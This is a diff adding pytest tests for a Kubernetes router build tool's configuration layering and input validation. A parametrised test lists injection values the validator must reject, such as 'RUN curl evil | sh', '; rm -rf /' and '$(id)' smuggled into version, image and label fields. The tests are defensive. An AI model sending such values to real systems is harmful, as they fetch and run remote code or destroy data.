@@ -1,0 +1,138 @@
+"""Configuration layering and validation: defaults < user config < environment < flags."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from kube_router_sctp import config
+from kube_router_sctp.errors import ConfigError
+
+
+def write_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> Path:
+    path = tmp_path / "config.toml"
+    path.write_text(text)
+    monkeypatch.setenv("KUBE_ROUTER_SCTP_CONFIG", str(path))
+    return path
+
+
+def test_defaults_are_the_field_report_setup() -> None:
+    settings = config.load()
+    assert settings.kube_router_version == "v0.3.2"
+    assert settings.ipvsadm_version == "1.30"
+    assert settings.base_family == "alpine"
+    assert settings.data["families"]["alpine"]["runtime"] == "alpine:3.10.3"
+    assert settings.sources["build.ipvsadm-version"] == "defaults"
+
+
+def test_user_config_overrides_defaults(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = write_user(tmp_path, monkeypatch, '[build]\nipvsadm-version = "1.31"\nbase-family = "debian"\n')
+    settings = config.load()
+    assert settings.ipvsadm_version == "1.31"
+    assert settings.base_family == "debian"
+    assert settings.sources["build.ipvsadm-version"] == str(path)
+
+
+def test_environment_overrides_user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write_user(tmp_path, monkeypatch, '[build]\nipvsadm-version = "1.31"\n')
+    monkeypatch.setenv("KUBE_ROUTER_SCTP_IPVSADM_VERSION", "1.29")
+    settings = config.load()
+    assert settings.ipvsadm_version == "1.29"
+    assert settings.sources["build.ipvsadm-version"] == "KUBE_ROUTER_SCTP_IPVSADM_VERSION"
+
+
+def test_flags_override_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("KUBE_ROUTER_SCTP_IPVSADM_VERSION", "1.29")
+    settings = config.load({"build.ipvsadm-version": "1.31"})
+    assert settings.ipvsadm_version == "1.31"
+    assert settings.sources["build.ipvsadm-version"] == "flag"
+
+
+def test_list_and_bool_options_from_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("KUBE_ROUTER_SCTP_IPVSADM_MIRRORS", "https://a.example/ipvsadm, file:///srv/ipvsadm")
+    monkeypatch.setenv("KUBE_ROUTER_SCTP_OFFLINE", "yes")
+    settings = config.load()
+    assert settings.mirrors.ipvsadm == ("https://a.example/ipvsadm", "file:///srv/ipvsadm")
+    assert settings.offline is True
+
+
+def test_user_config_may_add_pins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write_user(
+        tmp_path,
+        monkeypatch,
+        '[kube-router.releases]\n"v2.7.9" = { commit = "'
+        + "a" * 40
+        + '", date = 1, tree-sha256 = "'
+        + "b" * 64
+        + '" }\n',
+    )
+    releases = config.load().data["kube-router"]["releases"]
+    assert "v2.7.9" in releases
+    assert "v0.3.2" in releases  # merged, not replaced
+
+
+def test_unknown_option_is_an_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write_user(tmp_path, monkeypatch, "[build]\nkube-router-verison = 'v0.3.2'\n")
+    with pytest.raises(ConfigError, match="unknown option build.kube-router-verison"):
+        config.load()
+
+
+def test_broken_toml_is_an_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write_user(tmp_path, monkeypatch, "[build\n")
+    with pytest.raises(ConfigError, match="not valid TOML"):
+        config.load()
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "message"),
+    [
+        ("build.kube-router-version", "v0.3.2\nRUN curl evil | sh", "invalid kube-router version"),
+        ("build.kube-router-version", "v1.0.0-rc1", "invalid kube-router version"),
+        ("build.kube-router-version", "latest", "invalid kube-router version"),
+        ("build.ipvsadm-version", "1.31; rm -rf /", "invalid ipvsadm version"),
+        ("build.runtime-base", "alpine:3.10\nRUN id", "invalid runtime base image"),
+        ("build.runtime-base", "alpine:$(id)", "invalid runtime base image"),
+        ("build.base-family", "centos", "unknown base family"),
+        ("build.push", "registry", "invalid --push target"),
+        ("build.push", "registry:5000/Team", "invalid --push target"),
+        ("mirrors.debian", "ftp://mirror.example/debian", "invalid Debian mirror"),
+        ("mirrors.go-proxy", 'https://proxy.example/"', "invalid Go module proxy"),
+        ("build.image-name", "Kube-Router", "invalid image name"),
+    ],
+)
+def test_bad_values_are_refused(key: str, value: str, message: str) -> None:
+    with pytest.raises(ConfigError, match=message):
+        config.load({key: value})
+
+
+def test_bad_label_is_refused() -> None:
+    with pytest.raises(ConfigError, match="invalid label team value"):
+        config.load({"labels": {"team": 'net"\nRUN id'}})
+
+
+def test_missing_ca_bundle_is_an_error(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="CA bundle .* does not exist"):
+        config.load({"mirrors.ca-bundle": str(tmp_path / "nope.pem")})
+
+
+def test_push_target_is_split() -> None:
+    assert config.load({"build.push": "registry:5000"}).push == ("registry:5000", "")
+    assert config.load({"build.push": "127.0.0.1:5000/team/sub"}).push == ("127.0.0.1:5000", "team/sub")
+
+
+def test_host_debian_mirror_reads_deb822(tmp_path: Path) -> None:
+    (tmp_path / "sources.list.d").mkdir()
+    (tmp_path / "sources.list.d" / "debian.sources").write_text(
+        "Types: deb\nURIs: http://mirror.example/debian\nSuites: bookworm\n"
+    )
+    assert config.host_debian_mirror(tmp_path) == "http://mirror.example/debian"
+
+
+def test_host_debian_mirror_reads_one_line_format(tmp_path: Path) -> None:
+    (tmp_path / "sources.list.d").mkdir()
+    (tmp_path / "sources.list").write_text(
+        "# comment\ndeb http://security.example/debian-security bookworm-security main\n"
+        "deb [arch=amd64] http://mirror.example/debian bookworm main\n"
+    )
+    assert config.host_debian_mirror(tmp_path) == "http://mirror.example/debian"
